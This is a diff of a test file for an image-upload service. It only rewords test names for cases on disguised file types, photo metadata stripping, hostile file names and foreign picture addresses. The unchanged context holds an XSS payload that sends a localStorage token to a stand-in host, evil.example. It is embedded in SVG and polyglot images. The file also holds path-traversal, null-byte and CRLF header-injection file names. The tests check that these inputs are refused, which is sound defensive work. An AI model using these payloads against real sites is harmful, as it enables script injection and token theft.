@@ -32,7 +32,7 @@ const storedFiles = () => {
 }
 const SCRIPT = '<script>fetch("//evil.example/?"+localStorage.t)</script>'
 
-describe('case 25: files that are not what they say', () => {
+describe('case 25: files with a false type', () => {
   it.each([
     ['an SVG with a script', `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`],
     ['an SVG behind an XML header', `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
@@ -51,7 +51,7 @@ describe('case 25: files that are not what they say', () => {
     }
   })
 
-  it('refuses an SVG that begins like a JPEG, a GIF or a TIFF that no loader is allowed to read', async () => {
+  it('refuses an SVG that begins like a JPEG, and unsupported formats like GIF or TIFF', async () => {
     const { id } = await aDraft()
     const disguised = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(`<svg>${SCRIPT}</svg>`)])
     expect((await upload(world, id, [disguised], seller)).body.reason).toBe('image_unusable')
@@ -64,7 +64,7 @@ describe('case 25: files that are not what they say', () => {
     }
   })
 
-  it('takes a picture with a wrong type by what it is, and drops what hangs on it', async () => {
+  it('reads a picture with a wrong type by its content and drops appended data', async () => {
     const { id } = await aDraft()
     const polyglot = Buffer.concat([await aPicture({ format: 'png' }), Buffer.from(`${SCRIPT}PK\x03\x04`)])
     const { body } = await upload(world, id, [{ content: polyglot, name: 'a.html', type: 'text/html' }], seller)
@@ -75,7 +75,7 @@ describe('case 25: files that are not what they say', () => {
     }
   })
 
-  it('serves pictures so that a browser can do nothing with them but show them', async () => {
+  it('serves pictures with headers that only allow a browser to display them', async () => {
     const { id } = await aListing(world, seller, { pictures: 0 })
     const { body } = await upload(world, id, [await aPicture()], seller)
     const { headers } = await get(body.images[0]!)
@@ -88,8 +88,8 @@ describe('case 25: files that are not what they say', () => {
   })
 })
 
-describe('case 27: what a photo tells about its maker', () => {
-  it('is gone from every served size, and the photo is upright', async () => {
+describe('case 27: metadata of a photo', () => {
+  it('is missing in every served size, and the photo is upright', async () => {
     const { id } = await aListing(world, seller, { pictures: 0 })
     const photo = await aPhonePhoto()
     const told = await sharp(photo).metadata()
@@ -108,8 +108,8 @@ describe('case 27: what a photo tells about its maker', () => {
   })
 })
 
-describe('case 28: names and addresses that point elsewhere', () => {
-  it('never uses the name of a file', async () => {
+describe('case 28: file names and foreign picture addresses', () => {
+  it('are never used as a stored name', async () => {
     const { id } = await aDraft()
     const names = ['../../x.jpg', 'a\0b.jpg', `${'n'.repeat(10_240)}.jpg`, 'x.jpg.html', 'a%0d%0aset-cookie: t=1.jpg']
     for (const name of names) {
@@ -123,7 +123,7 @@ describe('case 28: names and addresses that point elsewhere', () => {
     expect(readdirSync(world.dataDir)).toEqual(['images'])
   })
 
-  it('takes no address from outside and asks nobody', async () => {
+  it('are refused, and no request is made to them', async () => {
     let asked = 0
     const decoy = createServer((_request, reply) => {
       asked++
@@ -166,7 +166,7 @@ describe('case 28: names and addresses that point elsewhere', () => {
     decoy.close()
   })
 
-  it('replaces pictures while others read: every reply is a whole picture or none', async () => {
+  it('pictures replaced during reads are returned whole or not at all', async () => {
     const { id } = await aListing(world, seller, { pictures: 2 })
     const { body } = await upload(world, id, [await aPicture(), await aPicture()], seller)
     const replies = await Promise.all([
